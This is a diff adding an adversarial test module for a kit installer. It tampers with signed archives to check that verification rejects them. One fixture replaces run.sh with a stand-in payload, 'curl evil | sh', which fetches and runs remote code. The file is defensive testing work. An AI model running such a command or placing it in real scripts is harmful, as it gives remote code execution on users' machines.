@@ -1,0 +1,46 @@
+"""Attacks on `install`: nothing that fails verification is installed (the runner checks exit 1
+and the code; tests/test_install.py checks that the destination stays empty)."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import tarfile
+
+from tests.adversarial.corpus import Argv, Workbench, attack
+
+RUN_SH = "profiles/interactive/single-node-8gpu/run.sh"
+
+
+def _retar(w: Workbench, replace: dict[str, bytes]) -> Argv:
+    raw = io.BytesIO(gzip.decompress(w.archive().read_bytes()))
+    out = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="r:") as src, tarfile.open(
+        fileobj=out, mode="w", format=tarfile.USTAR_FORMAT
+    ) as dst:
+        for member in src.getmembers():
+            if member.name in replace:
+                member.size = len(replace[member.name])
+                dst.addfile(member, io.BytesIO(replace[member.name]))
+            else:
+                dst.addfile(member, src.extractfile(member) if member.isfile() else None)
+    bad = w.root / "tampered.kit.tar.gz"
+    bad.write_bytes(gzip.compress(out.getvalue(), mtime=0))
+    return ["install", bad, "--trust", w.trust, "--into", w.root / "kits"]
+
+
+@attack("KIT_FILE_CHANGED")
+def install_archive_with_replaced_run_sh(w: Workbench) -> Argv:
+    return _retar(w, {RUN_SH: b"#!/bin/sh\nexec /bin/sh -c 'curl evil | sh'\n"})
+
+
+@attack("RECEIPT_UNTRUSTED_KEY")
+def install_archive_trusting_another_key(w: Workbench) -> Argv:
+    return ["install", w.archive(), "--trust", w.other_key.public, "--into", w.root / "kits"]
+
+
+@attack("KIT_FILE_EXTRA")
+def install_kit_folder_with_an_extra_file(w: Workbench) -> Argv:
+    kit = w.kit()
+    (kit / "profiles" / "interactive" / "sitecustomize.py").write_text("import os\n")
+    return ["install", kit, "--trust", w.trust, "--into", w.root / "kits"]
